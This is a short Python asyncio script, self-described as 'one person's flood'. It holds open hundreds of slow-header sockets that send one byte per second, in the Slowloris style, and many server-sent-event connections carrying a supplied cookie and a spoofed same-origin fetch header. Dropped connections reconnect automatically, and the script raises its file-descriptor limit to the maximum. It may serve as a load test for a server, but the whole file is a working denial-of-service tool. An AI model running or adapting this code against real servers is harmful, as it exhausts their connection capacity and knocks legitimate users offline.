"""One person's flood: sockets that send their headers byte by byte, and event streams. Both come back when dropped."""

import asyncio
import resource
import sys


async def slowly(host, port, begun):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            begun()
            await asyncio.sleep(1)
            continue
        begun()
        try:
            writer.write(b"GET / HTTP/1.1\r\nX-Slow: ")
            while not reader.at_eof():
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(1)
                if writer.is_closing():
                    break
        except OSError:
            pass
        writer.close()
        await asyncio.sleep(1)


async def streaming(host, port, request, begun):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            begun()
            writer.write(request)
            while await reader.read(4096):
                pass
            writer.close()
        except OSError:
            begun()
        # As a browser's event source comes back.
        await asyncio.sleep(3)


async def flood(host, port, request, sockets, streams):
    left, ready = sockets + streams, asyncio.Event()

    def once():
        done = False

        def begun():
            nonlocal done, left
            if not done:
                done, left = True, left - 1
                if not left:
                    ready.set()

        return begun

    tasks = [asyncio.create_task(slowly(host, port, once())) for _ in range(sockets)]
    tasks += [asyncio.create_task(streaming(host, port, request, once())) for _ in range(streams)]
    await ready.wait()
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    name, path, cookie, many, more = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    head = f"GET {path}/events HTTP/1.1\r\nHost: {name}\r\nCookie: {cookie}\r\nSec-Fetch-Site: same-origin\r\n\r\n"
    machine, _, number = name.partition(":")
    asyncio.run(flood(machine, int(number), head.encode(), int(many), int(more)))
